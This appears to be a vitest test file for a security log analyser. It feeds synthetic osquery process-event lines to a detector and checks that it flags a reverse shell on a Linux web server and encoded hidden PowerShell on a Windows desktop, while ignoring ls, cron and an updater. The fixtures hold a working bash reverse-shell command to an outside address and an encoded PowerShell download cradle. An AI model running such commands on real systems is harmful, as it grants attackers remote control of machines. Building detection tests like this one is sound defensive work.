// osquery's results log (the filesystem logger's JSON lines): its process rows are read like any
// other process creation, Linux and Windows alike; everyday commands stay quiet.
import { afterAll, describe, expect, it } from 'vitest';
import { analysePlanted, cleanupPlanted, listFindings, logFiles } from './plantedKit';

afterAll(cleanupPlanted);

const T0 = Date.UTC(2026, 2, 3, 9, 0, 0) / 1000;
const row = (i: number, host: string, cmdline: string, path: string): string =>
  JSON.stringify({
    name: 'pack_incident-response_process_events',
    hostIdentifier: host,
    calendarTime: new Date((T0 + i) * 1000).toUTCString().replace('GMT', 'UTC'),
    unixTime: T0 + i,
    epoch: 0,
    counter: i,
    numerics: false,
    decorations: { host_uuid: 'x', username: 'root' },
    columns: { cmdline, path, pid: String(1000 + i), parent: '1', uid: '33', cwd: '/var/www' },
    action: 'added',
  });

describe("osquery's results log", () => {
  it('a reverse shell on a Linux web server and encoded PowerShell on a Windows desktop are found; ls, cron and an updater are not', async () => {
    const found = await analysePlanted('osquery', (dir) => {
      const f = logFiles(dir);
      const lines: string[] = [];
      for (let i = 0; i < 50; i++) lines.push(row(i * 60, 'web01', i % 2 ? 'ls -la /var/www/html' : '/usr/sbin/cron -f', i % 2 ? '/usr/bin/ls' : '/usr/sbin/cron'));
      lines.push(row(4000, 'web01', 'bash -c "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"', '/usr/bin/bash'));
      lines.push(row(4100, 'desk07', 'C:\\Program Files\\Google\\Update\\GoogleUpdate.exe /ua /installsource scheduler', 'C:\\Program Files\\Google\\Update\\GoogleUpdate.exe'));
      lines.push(row(4200, 'desk07', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'));
      f.put('osqueryd.results.log', lines);
      return f.files;
    });
    const procs = found.filter((f) => f.detector === 'processes');
    const titles = procs.map((f) => f.title.split(':')[0]!);
    expect(titles, listFindings(found)).toHaveLength(2);
    expect(titles).toContain('A reverse shell on web01');
    expect(titles.some((t) => /PowerShell.* on desk07$/.test(t)), titles.join(' | ')).toBe(true);
    const shell = procs.find((f) => f.title.startsWith('A reverse shell'))!;
    expect(shell.explanation).toContain("osquery's results log");
    expect(shell.severity).toBe('high');
  });
});
